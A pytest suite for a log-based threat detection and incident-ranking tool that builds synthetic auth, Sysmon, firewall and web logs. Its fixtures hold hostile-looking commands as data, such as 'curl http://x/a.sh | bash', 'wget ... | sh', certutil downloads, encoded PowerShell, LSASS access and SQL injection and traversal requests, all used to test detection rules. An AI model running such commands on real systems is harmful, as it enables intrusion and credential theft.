"""From log lines to ranked incidents."""

import json
import re
from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from wardlight.__main__ import main
from wardlight.functions.levels import TACTICS
from wardlight.plans import triage
from wardlight.plans.rules import load_rules, technique_of
from wardlight.sources import logs, sinks

START = datetime(2026, 3, 10, 8)
NOW = datetime(2026, 3, 11)


def lines_of(spark, source, *lines, **options):
    df = spark.createDataFrame([(x,) for x in lines], "value string").coalesce(1).select("value", F.struct(F.lit("f").alias("file"), F.lit(0).cast("long").alias("block"), F.monotonically_increasing_id().alias("n")).alias("at"))
    return logs.parse(df, source, **options)


def one(spark, source, line, **options):
    return lines_of(spark, source, line, **options).first()


def test_auth(spark):
    e = lambda msg, **o: one(spark, "auth", f"Mar 10 08:00:01 bastion01 {msg}", **({"now": NOW} | o))
    r = e("sshd[1]: Failed password for invalid user bob from 203.0.113.9 port 22 ssh2")
    assert (r["kind"], r["user"], r["src_ip"], r["host"], r["ts"], r["invalid_user"]) == ("auth_failure", "bob", "203.0.113.9", "bastion01", START + timedelta(seconds=1), None)
    assert e("sshd[1]: Failed publickey for amy from 10.0.0.1 port 22")["user"] == "amy"
    assert e("sshd: Invalid user eve from 10.0.0.1")["invalid_user"] is True
    r = e("sshd-session[1]: Accepted publickey for amy from 10.0.0.1 port 22 ssh2")
    assert (r["kind"], r["method"]) == ("auth_success", "publickey")
    r = e("sudo:   amy : TTY=pts/0 ; PWD=/home/amy ; USER=root ; COMMAND=/usr/bin/curl http://x | bash  ")
    assert (r["kind"], r["user"], r["target_user"], r["pwd"], r["command"]) == ("sudo", "amy", "root", "/home/amy", "/usr/bin/curl http://x | bash")
    assert not e("cron[1]: (root) CMD (x)")["ok"] and not one(spark, "auth", "garbage")["ok"] and not one(spark, "auth", "Feb 30 08:00:01 h sshd[1]: Invalid user x from 1.1.1.1", now=NOW)["ok"]
    assert one(spark, "auth", "Dec 31 23:00:00 h sshd[1]: Invalid user x from 1.1.1.1", now=datetime(2026, 1, 2))["ts"].year == 2025
    assert e("sshd[1]: Invalid user x from 1.1.1.1", year=2024)["ts"].year == 2024


def test_sysmon(spark):
    s = lambda x: one(spark, "sysmon", "2026-03-10 08:00:00.123 UTC;" + x)
    r = s(r"EventID 1;Process Create;Computer=WS-1;User=CORP\amy;Image=C:\a.exe;CommandLine=x --k=v;w;ParentImage=C:\b.exe")
    assert (r["kind"], r["host"], r["user"], r["image"], r["command_line"], r["parent_image"], r["ts"].microsecond) == ("process_create", "WS-1", "CORP\\amy", "C:\\a.exe", "x --k=v;w", "C:\\b.exe", 123000)
    assert s("EventID 10;Access;SourceImage=a.exe;GrantedAccess=0x1010")["image"] == "a.exe"
    assert s("EventID 3;Net;DestinationIp=1.2.3.4;DestinationPort=x")["dst_port"] == 0 and s("EventID 3;Net;DestinationPort=443;DestinationPort=80")["dst_port"] == 80
    assert s("EventID 22;Dns;QueryName=a.top")["query"] == "a.top" and s("EventID 11;File;TargetFilename=")["target_filename"] is None
    assert not s("EventID 99;x;y=z")["ok"] and not s("EventID 1")["ok"] and not one(spark, "sysmon", "2026-03-10 08:00:00 UTC;EventID 1;x;Image=a")["ok"]


def test_firewall_and_web(spark):
    f = lambda x: one(spark, "firewall", f"2026-03-10 08:00:00 {x}")
    assert {a: f(f"{a} TCP 10.0.0.1:5 -> 1.2.3.4:443 BYTES=12")["kind"] for a in ("ACCEPT", "ALLOW", "DROP", "DENY", "REJECT")} == {"ACCEPT": "fw_allow", "ALLOW": "fw_allow", "DROP": "fw_deny", "DENY": "fw_deny", "REJECT": "fw_deny"}
    r = f("DENY UDP 10.0.0.1:5 -> 1.2.3.4:53 len 3")
    assert (r["bytes"], r["dst_port"], r["host"], r["protocol"], r["sensor"]) == (0, 53, "", "udp", "fw01") and f("ALLOW TCP 10.0.0.1:5 -> 1.2.3.4:53 x BYTES=77 y")["bytes"] == 77 and not f("HELLO")["ok"]
    r = one(spark, "apache", '203.0.113.5 - - [10/Mar/2026:10:00:00 +0200] "GET /a/b?x=1?y HTTP/1.1" 404 - "-" "agent"')
    assert (r["ts"], r["uri_path"], r["uri_query"], r["status"], r["bytes"], r["user"], r["user_agent"], r["host"]) == (START, "/a/b", "x=1?y", 404, 0, "", "agent", "web01")
    assert one(spark, "apache", '1.1.1.1 - amy [10/Mar/2026:10:00:00 +0000] "POST /a HTTP/1.1" 200 5')["user"] == "amy" and not one(spark, "apache", "x")["ok"]


def test_parse_stats(spark):
    got = logs.parse_stats(lines_of(spark, "firewall", "bad one", "2026-03-10 08:00:00 DENY UDP 1.1.1.1:5 -> 1.2.3.4:53", "bad " * 60, "b3", "b4")).first()
    assert (got["total"], got["parsed"], got["skipped"], got["samples"]) == (5, 1, 4, ["bad one", ("bad " * 60)[:120], "b3"])


def write_logs(folder):
    """A day of our own: a break-in, a chain of an attack, a silent scanner and some noise."""
    auth, sysmon, firewall, web = [], [], [], []
    t = lambda s: START + timedelta(seconds=s)
    log = lambda s, m: auth.append(f"{t(s):%b} {t(s).day} {t(s):%H:%M:%S} bastion01 {m}")
    sys = lambda s, i, **kv: sysmon.append(f"{t(s):%Y-%m-%d %H:%M:%S.%f} UTC;EventID {i};x;" + ";".join(f"{k}={v}" for k, v in kv.items()))
    fw = lambda s, a, src, dst, port, size=60: firewall.append(f"{t(s):%Y-%m-%d %H:%M:%S} {a} TCP {src}:5000 -> {dst}:{port} BYTES={size}")
    for i in range(40):
        log(i * 4, f"sshd[1]: Failed password for user{i % 9} from 203.0.113.45 port 22 ssh2")
    log(170, "sshd[1]: Accepted password for deploy from 203.0.113.45 port 22 ssh2")
    log(200, "sudo: deploy : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c curl http://x/a.sh | bash")
    log(9000, "sshd[1]: Failed password for amy from 10.0.10.22 port 22 ssh2")
    who = {"Computer": "WS-ALICE", "User": "CORP\\alice"}
    sys(10000, 1, **who, ParentImage="C:\\Office\\WINWORD.EXE", Image="C:\\Windows\\System32\\cmd.exe", CommandLine="cmd /c x")
    for i in range(6):
        sys(10010 + 5 * i, 1, **who, Image="C:\\w\\powershell.exe", CommandLine="powershell -enc AAAA")
    for i in range(22):
        sys(10100 + 60 * i + (i % 3), 3, **who, SourceIp="10.0.10.21", DestinationIp="192.0.2.77", DestinationPort=443)
    sys(10500, 10, **who, SourceImage="C:\\t\\dump.exe", TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1010")
    sys(10600, 10, **who, SourceImage="C:\\Windows\\System32\\svc.exe", TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1010")
    for i in range(4):
        fw(11000 + i, "ALLOW", "10.0.10.21", "192.0.2.99", 443, 50_000_000)
    for i in range(60):
        fw(15000 + i // 4, "DENY", "10.0.5.5", "10.0.3.10", 1000 + i)
    for i in range(45):
        fw(20000 + i // 2, "DENY", "198.51.100.99", "10.0.3.10", 2000 + i)
        web.append(f'198.51.100.99 - - [{t(20000 + i // 2):%d/%b/%Y:%H:%M:%S} +0000] "GET /p{i} HTTP/1.1" 404 10 "-" "scan"')
    sysmon.append("broken line")
    for name, lines in (("auth.log", auth), ("sysmon.log", sysmon), ("firewall.log", firewall), ("apache_access.log", web)):
        (folder / name).write_text("\n".join(lines) + "\n\n", encoding="utf-8")
    scenarios = [
        {"id": "S1", "name": "break-in", "malicious": True, "expected_rules": ["IDT-001", "IDT-002", "IDT-003", "IDT-SG-011"], "entities": ["ip:203.0.113.45", "host:bastion01"]},
        {"id": "S2", "name": "chain", "malicious": True, "expected_rules": ["IDT-SG-001", "IDT-SG-002", "IDT-SG-004", "IDT-006", "IDT-007"], "entities": ["host:ws-alice"]},
        {"id": "S3", "name": "scan", "malicious": True, "expected_rules": ["IDT-004", "IDT-008"], "entities": ["ip:198.51.100.99"]},
        {"id": "N1", "name": "scanner", "malicious": False, "expected_rules": [], "entities": ["ip:10.0.5.5"]},
    ]
    (folder / "ground_truth.json").write_text(json.dumps({"year": 2026, "scenarios": scenarios}))
    (folder / "env.yml").write_text(
        "lists: {trusted_scanners: [10.0.5.5], backup_destinations: [], known_good_destinations: []}\nassets:\n"
        "  - {host: WS-ALICE, ip: 10.0.10.21, criticality: medium}\n  - {host: web01, ip: 10.0.3.10, criticality: high}\n  - {host: bastion01, ip: 10.0.1.5, criticality: high}\n"
    )
    (folder / "intel.csv").write_text("indicator,type,threat,confidence,source\n192.0.2.77,ip,old,10,x\n192.0.2.77,ip,Server,95,x\n203.0.113.45,ip,Guessing,80,x\n")
    return len(auth) + len(sysmon) - 1 + len(firewall) + len(web)


@pytest.fixture(scope="module")
def run(spark, tmp_path_factory):
    folder = tmp_path_factory.mktemp("logs")
    n = write_logs(folder)
    result = triage.run(spark, str(folder), now=NOW, env=str(folder / "env.yml"), intel=str(folder / "intel.csv"))
    result.alerts, result.incidents = result.alerts.cache(), result.incidents.cache()
    return folder, n, result


def test_alerts(run):
    _, n, result = run
    assert result.events.count() == n
    alerts = {r["rule_id"]: r for r in result.alerts.collect()}
    assert set(alerts) == {"IDT-001", "IDT-002", "IDT-003", "IDT-004", "IDT-006", "IDT-007", "IDT-008", "IDT-SG-001", "IDT-SG-002", "IDT-SG-004", "IDT-SG-011"} and result.alerts.count() == 11
    a = alerts["IDT-001"]
    assert (a["count"], a["host"], a["src_ip"], len(a["evidence"]), a["indicators"], a["last_us"] - a["first_us"]) == (40, "bastion01", "203.0.113.45", 3, ["203.0.113.45"], 156_000_000)
    assert alerts["IDT-SG-001"]["count"] == 6 and alerts["IDT-SG-004"]["count"] == 1 and alerts["IDT-006"]["count"] == 22 and "22 connections, mean interval 60s" in alerts["IDT-006"]["description"]
    a = alerts["IDT-003"]
    assert (a["user"], a["confidence"], a["severity"]) == ("deploy", 90, "critical") and "Accepted" in a["evidence"][-1] and len(a["evidence"]) == 3
    assert alerts["IDT-007"]["count"] == 3 or alerts["IDT-007"]["count"] == 4
    assert sorted(r["id"] for r in result.alerts.select("id").collect()) == [f"ALR-{i:04d}" for i in range(1, 12)]


def test_incidents(run, spark):
    _, _, result = run
    rows = result.ranked().collect()
    assert len(rows) == 3
    top = rows[0]
    assert top["hosts"][0] == "WS-ALICE" and top["users"] == ["CORP\\alice"] and "192.0.2.77" in top["external_ips"] and top["name"] == "Attack from Initial Access as far as Exfiltration: WS-ALICE"
    assert [i["threat"] for i in top["intel"]] == ["Server"] and top["score"] == sum(p["points"] for p in top["score_breakdown"]) and top["priority"] == "P1"
    assert {r["id"] for r in rows} == {"INC-001", "INC-002", "INC-003"}
    report = triage.evaluate(spark, result)
    assert all(s["pass"] for s in report["scenarios"]) and report["rule_recall"] == 1.0 and report["unattributed_alerts"] == 0


def test_partitions_change_nothing(run, spark):
    folder, _, result = run
    want = sorted(str((r["id"], r["rule_id"], r["first_us"], r["evidence"], r["indicators"])) for r in result.alerts.collect())
    before = spark.conf.get("spark.sql.shuffle.partitions")
    try:
        spark.conf.set("spark.sql.shuffle.partitions", "1")
        again = triage.run(spark, str(folder), now=NOW, env=str(folder / "env.yml"), intel=str(folder / "intel.csv"))
        assert sorted(str((r["id"], r["rule_id"], r["first_us"], r["evidence"], r["indicators"])) for r in again.alerts.collect()) == want
    finally:
        spark.conf.set("spark.sql.shuffle.partitions", before)


def test_outputs(run, spark, tmp_path):
    _, _, result = run
    facts = sinks.write(result, str(tmp_path), events=True)
    told = spark.read.json(f"{tmp_path}/events.json")
    assert told.count() == result.events.count() and {"ts", "source", "kind", "uri_query", "bytes"} <= set(told.columns) and "us" not in told.columns
    assert facts["alerts"] == 11 and facts["incidents"] == 3 and facts["priorities"]["P1"] >= 1 and facts["parse"]["sysmon"]["skipped"] == 1
    assert spark.read.json(f"{tmp_path}/alerts.json").count() == 11 and spark.read.json(f"{tmp_path}/incidents.json").count() == 3
    text = "\n".join(r["value"] for r in spark.read.text(f"{tmp_path}/reports/id=INC-002").collect())
    assert text.startswith("# INC-002 Attack from") and "P1 mainly because" in text and "## Known before\n- 192.0.2.77 stands in" in text
    stages = [x[4:] for x in text.splitlines() if x.startswith("### ")]
    assert stages == [t for t in TACTICS if t in stages] and len(stages) >= 3 and "Application Layer Protocol: Web Protocols" in text and "\n  > " in text
    steps = [x[6:] for x in text.splitlines() if x.startswith("- [ ] ")]
    assert [s.split(":")[0] for s in steps] == sorted((s.split(":")[0] for s in steps), key=sinks.PHASES.index) and len(steps) == len(set(steps))
    for tactic in stages:
        assert all(any(s.endswith(step) for s in steps) for _, step in sinks.PLAYBOOK[tactic])
    assert any(s.endswith(sinks.PLAYBOOK["*"][0][1]) for s in steps) and not any(s.endswith(sinks.PLAYBOOK["Impact"][0][1]) for s in steps)
    assert json.loads(spark.read.text(f"{tmp_path}/navigator.json").first()[0])["techniques"]


def test_summary_in_one_pass_a_table(run, spark):
    """Grouping sets give what single counts give, and lines were counted as they were written."""
    _, n, result = run
    x = triage.summary(result)
    by = lambda df, c: {r[c]: r["count"] for r in df.groupBy(c).count().collect()}
    assert x["alerts_by_severity"] == by(result.alerts, "severity") and sum(x["alerts_by_tactic"].values()) == 11 and {k: v for k, v in x["priorities"].items() if v} == by(result.incidents, "priority")
    assert x["events"] == n == result.events.count() and x["parse"]["sysmon"]["skipped"] == 1
    assert triage._grouped(spark.createDataFrame([], "a string, b string"), "a", "b") == (0, {}, {})


def test_techniques_have_names(spark):
    single, stateful = load_rules()
    named = {t for r in single for t in map(technique_of, r.doc.get("tags") or []) if t} | {r.technique for r in stateful}
    assert set(sinks.techniques()) == named and set(sinks.PLAYBOOK) == {"*", "critical", *TACTICS}


def test_web_lines_with_quotes(spark):
    w = lambda x: one(spark, "apache", f"203.0.113.5 - - [10/Mar/2026:10:00:00 +0200] {x}")
    r = w('"GET /a?q="%20or%201=1 HTTP/1.1" 200 5')
    assert (r["ok"], r["url"], r["uri_path"], r["uri_query"], r["status"], r["bytes"], r["user_agent"]) == (True, '/a?q="%20or%201=1', "/a", 'q="%20or%201=1', 200, 5, None)
    r = w('"GET /a"b"?x="" HTTP/1.1" 404 - "http://r/?q=1" "agent (x)"')
    assert (r["url"], r["uri_query"], r["status"], r["bytes"], r["user_agent"]) == ('/a"b"?x=""', 'x=""', 404, 0, "agent (x)")
    r = w('"GET /old" 200 5')  # a request without protocol
    assert (r["url"], r["status"]) == ("/old", 200)
    assert w('"GET /a HTTP/1.1" 200 5 "r" "a" "more"')["user_agent"] == "a" and w('"GET /a HTTP/1.1" 200 5 "r"')["user_agent"] is None
    for bad in ('"GET /a b" HTTP/1.1 200 5', '"get /a HTTP/1.1" 200 5', '"GET /a HTTP/1.1" 20 5', '"GET /a HTTP/1.1" 200 x', '"GET /a HTTP/1.1"  200 5', '"-" 408 0', ""):
        assert not w(bad)["ok"], bad
    assert not one(spark, "apache", '1.1.1.1  - - [10/Mar/2026:10:00:00 +0200] "GET /a HTTP/1.1" 200 5')["ok"] and not one(spark, "apache", '1.1.1.1 - - [40/Mar/2026:10:00:00 +0200] "GET /a HTTP/1.1" 200 5')["ok"]


def test_lines_without_a_name_or_with_a_bad_port(spark):
    e = lambda msg: one(spark, "auth", f"Mar 10 08:00:01 b sshd[1]: {msg}", now=NOW)["ok"]
    assert not e("Failed password for invalid user  from 1.2.3.4 port 22 ssh2") and not e("Invalid user  from 1.2.3.4") and e("Invalid user x from 1.2.3.4")
    f = lambda x: one(spark, "firewall", f"2026-03-10 08:00:00 DENY TCP {x}")["ok"]
    assert not f("10.0.0.1:5abc -> 1.2.3.4:443") and f("10.0.0.1:5 -> 1.2.3.4:443,") and not f("10.0.0.1 -> 1.2.3.4:443")


def test_lines_counted_on_a_stream(spark, tmp_path):
    lines = [f"2026-03-10 08:00:0{i} DENY UDP 1.1.1.1:5 -> 1.2.3.4:53" for i in range(5)] + ["bad", "worse"]
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.log").write_text("\n".join(lines))
    raw = spark.readStream.text(str(tmp_path / "in")).select("value", F.struct(F.lit("f").alias("file"), F.lit(0).cast("long").alias("block"), F.lit(0).cast("long").alias("n")).alias("at"))
    q = logs.counted(logs.parse(raw, "firewall"), "lines").writeStream.format("noop").option("checkpointLocation", str(tmp_path / "ck")).start()
    try:
        q.processAllAvailable()
        seen = [p["observedMetrics"]["lines"] for p in q.recentProgress if p["observedMetrics"]]
    finally:
        q.stop()
    assert sum(x["total:firewall"] for x in seen) == 7 and sum(x["parsed:firewall"] for x in seen) == 5


def test_command_line(run, capsys, tmp_path):
    folder, n, _ = run
    made = str(tmp_path / "o")
    assert main(["detect", "--logs", str(folder), "--year", "2026", "--out", made, "--env", str(folder / "env.yml"), "--intel", str(folder / "intel.csv"), "--top", "2"]) == 0
    said = capsys.readouterr()
    assert said.out.startswith(f"{n} events, 11 alerts, 3 incidents; ") and [x.split()[0] for x in said.out.splitlines()[1:]] == sorted(x.split()[0] for x in said.out.splitlines()[1:]) and len(said.out.splitlines()) == 3
    assert "sysmon: 1 of " in said.err
    assert main(["rules"]) == 0 and "IDT-SG-012" in capsys.readouterr().out
    assert main(["detect", "--logs", "/nonexistent", "--out", "/nonexistent/x"]) == 2


def test_correlation_facts(spark):
    from wardlight.operators import correlation as C
    from wardlight.sources.context import Environment

    assets = Environment({"assets": [{"host": "WEB01", "ip": "10.0.3.10", "criticality": "high"}]}).assets(spark)

    def groups(*alerts, gap=1800):
        rows = [(i + 1, int(a["at"] * 1e6), int(a.get("to", a["at"]) * 1e6), a.get("host", ""), a.get("user", ""), a.get("src_ip", ""), a.get("dst_ip", "")) for i, a in enumerate(alerts)]
        df = spark.createDataFrame(rows, "ord long, first_us long, last_us long, host string, user string, src_ip string, dst_ip string")
        return [r["incident"] for r in C.correlate(df, assets, gap).orderBy("ord").collect()]

    assert groups({"at": 0, "host": "A"}, {"at": 60, "host": "a"}) == [1, 1]
    assert groups({"at": 0, "host": "web01"}, {"at": 60, "dst_ip": "10.0.3.10"}) == [1, 1]
    assert groups({"at": 0, "host": "A"}, {"at": 60, "host": "B"}) == [1, 2]
    assert groups({"at": 0, "host": "A"}, {"at": 7200, "host": "A"}) == [1, 2] and groups({"at": 0, "to": 6000, "host": "A"}, {"at": 7200, "host": "A"}) == [1, 1]
    assert groups({"at": 0, "user": "root"}, {"at": 60, "user": "root"}) == [1, 2] and groups({"at": 0, "user": "CORP\\Alice"}, {"at": 60, "user": "alice"}) == [1, 1]
    assert groups({"at": 0, "host": "A"}, {"at": 60, "host": "A", "user": "amy"}, {"at": 120, "user": "amy", "host": "C"}) == [1, 1, 1]
    scores = spark.createDataFrame([(s,) for s in (0, 34, 35, 59, 60, 79, 80, 100)], "s int").select(C.priority(F.col("s"))).collect()
    assert [r[0] for r in scores] == ["P4", "P4", "P3", "P3", "P2", "P2", "P1", "P1"]


def test_every_bundled_rule_fires(spark):
    """Logs of our own in which each of the twenty rules has its case, and look-alikes that none of them meets."""
    from functools import reduce

    from pyspark.sql import DataFrame

    from wardlight.operators.lineage import cut
    from wardlight.plans.detector import Detector
    from wardlight.plans.rules import load_rules, technique_of

    t = lambda s: START + timedelta(seconds=s)
    auth = [f"{t(2 * i):%b} {t(2 * i).day} {t(2 * i):%H:%M:%S} gate sshd[1]: Failed password for u{i % 6} from 203.0.113.9 port 22 ssh2" for i in range(12)]
    auth += [f"{t(40):%b} {t(40).day} {t(40):%H:%M:%S} gate sshd[1]: Accepted password for u1 from 203.0.113.9 port 22 ssh2", f"{t(50):%b} {t(50).day} {t(50):%H:%M:%S} gate sudo: u1 : TTY=a ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c wget http://x/y | sh", f"{t(60):%b} {t(60).day} {t(60):%H:%M:%S} gate sudo: u1 : TTY=a ; PWD=/ ; USER=root ; COMMAND=/bin/ls"]
    fw = lambda s, a, src, dst, port, size=1: f"{t(s):%Y-%m-%d %H:%M:%S} {a} TCP {src}:1 -> {dst}:{port} BYTES={size}"
    firewall = [fw(i, "DENY", "198.51.100.3", "10.0.0.1", 100 + i) for i in range(20)] + [fw(i, "ALLOW", "10.0.0.7", f"10.0.1.{i}", 445) for i in range(9)] + [fw(i, "ALLOW", "10.0.0.8", "8.8.4.4", 443, 60_000_000) for i in range(2)] + [fw(5, "ALLOW", "10.0.0.9", "10.0.0.10", 443, 900_000_000)]
    sys = lambda s, i, rest: f"{t(s):%Y-%m-%d %H:%M:%S}.000 UTC;EventID {i};x;Computer=desk;User=CORP\\amy;{rest}"
    run = {
        "IDT-SG-001": r"Image=C:\w\pwsh.exe;CommandLine=pwsh -W Hidden", "IDT-SG-002": r"ParentImage=C:\o\excel.exe;Image=C:\w\mshta.exe", "IDT-SG-003": r"Image=C:\w\certutil.exe;CommandLine=certutil -urlcache -f x", "IDT-SG-005": r"Image=C:\t\PsExec.exe", "IDT-SG-006": "Image=x;CommandLine=cmd whoami /groups",
        "IDT-SG-007": r"Image=C:\w\schtasks.exe;CommandLine=schtasks /Create /tn a", "none": r"Image=C:\w\schtasks.exe;CommandLine=schtasks /query",
    }
    sysmon = [sys(100 + 10 * i, 1, x) for i, x in enumerate(run.values())] + [sys(300, 10, r"SourceImage=C:\t\d.exe;TargetImage=C:\w\lsass.exe;GrantedAccess=0x1410"), sys(310, 10, r"SourceImage=C:\t\d.exe;TargetImage=C:\w\lsass.exe;GrantedAccess=0x1000"), sys(320, 22, "QueryName=a.click"), sys(330, 22, "QueryName=a.example")]
    sysmon += [sys(400 + 60 * i, 3, "DestinationIp=2606:4700:4700::1111;DestinationPort=443") for i in range(10)] + [sys(400 + 60 * i, 3, "DestinationIp=fd00::9;DestinationPort=443") for i in range(10)]
    web = [f'198.51.100.4 - - [{t(i):%d/%b/%Y:%H:%M:%S} +0000] "GET /m{i} HTTP/1.1" 404 1' for i in range(30)]
    web += [f'198.51.100.{5 + i} - - [{t(i):%d/%b/%Y:%H:%M:%S} +0000] "GET {u} HTTP/1.1" 200 1' for i, u in enumerate(("/a?q=1%20union%20select%20x", "/a?f=..%2f..%2fx", "/uploads/s.php", "/fine?x=1"))]
    parts = [lines_of(spark, s, *x, now=NOW) for s, x in (("auth", auth), ("firewall", firewall), ("sysmon", sysmon), ("apache", web))]
    rows = reduce(DataFrame.unionByName, parts)
    assert rows.where("not ok").count() == 0
    single, stateful = load_rules()
    alerts = Detector(single, stateful).run(cut(logs.events_of(rows))).select("rule_id", "dst_ip").collect()
    assert {a["rule_id"] for a in alerts} == {r.id for r in [*single, *stateful]} and len(alerts) == 20
    assert {a["dst_ip"] for a in alerts if a["rule_id"] == "IDT-006"} == {"2606:4700:4700::1111"}
